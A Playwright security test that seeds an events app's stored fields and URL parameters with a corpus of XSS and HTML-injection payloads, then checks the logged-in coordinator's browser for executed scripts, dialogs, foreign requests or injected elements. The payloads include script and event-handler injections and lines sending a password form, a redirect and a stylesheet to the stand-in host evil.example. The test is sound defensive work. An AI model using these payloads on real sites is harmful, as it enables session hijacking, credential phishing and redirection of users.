import { chromium, type Page } from 'playwright-core';
import { browserArguments, findBrowser } from '../../harness/browser.ts';
import type { Tally } from '../attack.ts';
import { eventBody, pieceBody, profileBody, type Actors } from '../actors.ts';
import { field } from '../client.ts';

const tabs = 4;
const mark = 'window.__mallory=1';
const payloads = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}" data-mallory>`,
  `"><svg onload="${mark}" data-mallory>`,
  `'><iframe srcdoc="<script>parent.__mallory=1</script>" data-mallory></iframe>`,
  `</script><script>${mark}</script>`,
  `javascript:${mark}`,
  `<a href="javascript:${mark}" data-mallory>x</a>`,
  `{{constructor.constructor('${mark}')()}}`,
  '<form action="http://evil.example/" data-mallory><input name=password></form>',
  '<base href="http://evil.example/" data-mallory>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/" data-mallory>',
  '\u202e<b data-mallory>\u0000\u0007',
  '<style data-mallory>*{display:none}</style>',
  '<link rel=stylesheet href=http://evil.example/x.css data-mallory>',
];

const stored = async ({ mallory, coordinator }: Actors): Promise<string[]> => {
  const pages: string[] = [];
  for (const payload of payloads) {
    const address = { street: payload, city: payload.slice(0, 100), state: 'California', zip: '95112' };
    const made = await coordinator.put('/event', eventBody({ name: payload, description: payload, address }));
    const event = field(made, '_id');
    const names = { firstName: payload.slice(0, 100), lastName: payload.slice(0, 100), school: payload };
    const profile = field(await mallory.put('/profile', profileBody(mallory.id, names)), '_id');
    const piece = { title: payload, composer: payload, instrument: payload.slice(0, 100), notes: payload };
    await mallory.put('/performance', pieceBody({ ...piece, profile, event, user: mallory.id }));
    pages.push(...['manage', 'edit', 'messages', 'families'].map((page) => `/events/${page}/${event}`));
  }
  return pages;
};

const inAddress = (): string[] =>
  payloads.flatMap((payload) => {
    const text = encodeURIComponent(payload);
    return [`/?success=${text}`, `/?error=${text}`, `/login?error=${text}&success=${text}`];
  });

// Returns the signs of a successful attack on a page: a dialog, a foreign request, a script that ran, an added element.
const lookAt = async (page: Page, url: string): Promise<string[]> => {
  const signs: string[] = [];
  const onDialog = (): void => void signs.push('a dialog');
  const onRequest = (request: { url(): string }): void => {
    if (!/^(data|blob):/.test(request.url()) && new URL(request.url()).origin !== new URL(url).origin)
      signs.push(`a request to ${request.url()}`);
  };
  page.on('dialog', onDialog);
  page.on('request', onRequest);
  await page.goto(url);
  // Not until the network is idle: on a busy machine the browser may report no end of a worker's request.
  await page.locator('main h1').first().waitFor();
  const isDone = () => !document.querySelector('main :is([aria-busy=true], [data-outline])');
  await page.waitForFunction(isDone);
  await page.evaluate(() => new Promise((idle) => requestIdleCallback(idle)));
  const ran = await page.evaluate(() => '__mallory' in window);
  if (ran) signs.push('a script ran');
  if ((await page.locator('[data-mallory]').count()) > 0) signs.push('an element was made');
  page.off('dialog', onDialog);
  page.off('request', onRequest);
  return signs;
};

// Control: the same text runs in a page that does not escape it.
const careless = async (page: Page, tally: Tally): Promise<void> => {
  await page.setContent(`<h1>${payloads[1] ?? ''}</h1>`);
  await page
    .waitForFunction(() => '__mallory' in window, undefined, { timeout: 5000 })
    .catch(() => undefined);
  const ran = await page.evaluate(() => '__mallory' in window);
  tally.control('a careless page runs it, and that is noticed', ran);
};

/** Group 8: markup and scripts in every stored text and in the URL, opened in the coordinator's browser. */
export const payloadCorpus = async (actors: Actors, tally: Tally): Promise<void> => {
  const { url, coordinator } = actors;
  const pages = await stored(actors);
  const { executablePath, env } = await findBrowser();
  const options = { executablePath, env: { ...process.env, ...env } as Record<string, string> };
  const browser = await chromium.launch({ ...options, args: browserArguments });
  try {
    const [name = '', value = ''] = coordinator.cookie.split(/=(.*)/s);
    const context = await browser.newContext();
    await context.addCookies([{ name, value, url }]);
    const visits = [...pages, '/events', '/events/manage', '/profiles', ...inAddress()].values();
    let shown = 0;
    // Each tab takes the next page. A visit mostly waits for answers.
    const visitInTab = async (): Promise<void> => {
      const page = await context.newPage();
      for (const path of visits) {
        const signs = await lookAt(page, `${url}${path}`);
        tally.attack(`${path.slice(0, 80)}: ${signs.join(', ')}`, signs.length > 0);
        if ((await page.content()).includes('&lt;')) shown += 1;
      }
    };
    await Promise.all(Array.from({ length: tabs }, visitInTab));
    tally.control('the texts were on screen as texts', shown > payloads.length);
    await careless(await browser.newPage(), tally);
  } finally {
    await browser.close();
  }
};
